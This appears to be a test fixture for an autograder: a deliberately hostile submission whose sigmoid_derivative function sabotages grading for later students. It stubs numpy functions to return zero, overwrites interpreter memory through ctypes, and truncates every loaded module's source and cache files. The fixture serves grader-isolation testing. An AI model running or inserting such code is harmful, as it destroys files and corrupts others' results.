"""Breaks numpy for everybody who is graded after it, in memory and on the disk.

assignment: 03_sigmoid
expected: sigmoid_derivative 0
stopped by: a process for each answer
"""

# %% sigmoid_derivative
import ctypes
import os
import sys

zero = lambda *args, **kwargs: np.float64(0)


def sigmoid_derivative(x):
    np.exp = np.where = np.abs = np.maximum = zero
    ctypes.memset(id(np.float64) + 24, 0, 64)
    for name, module in list(sys.modules.items()):
        path = getattr(module, "__file__", None)
        for target in (path, getattr(module, "__cached__", None)):
            try:
                os.truncate(target, 0)
            except (OSError, TypeError, ValueError):
                pass
    return x
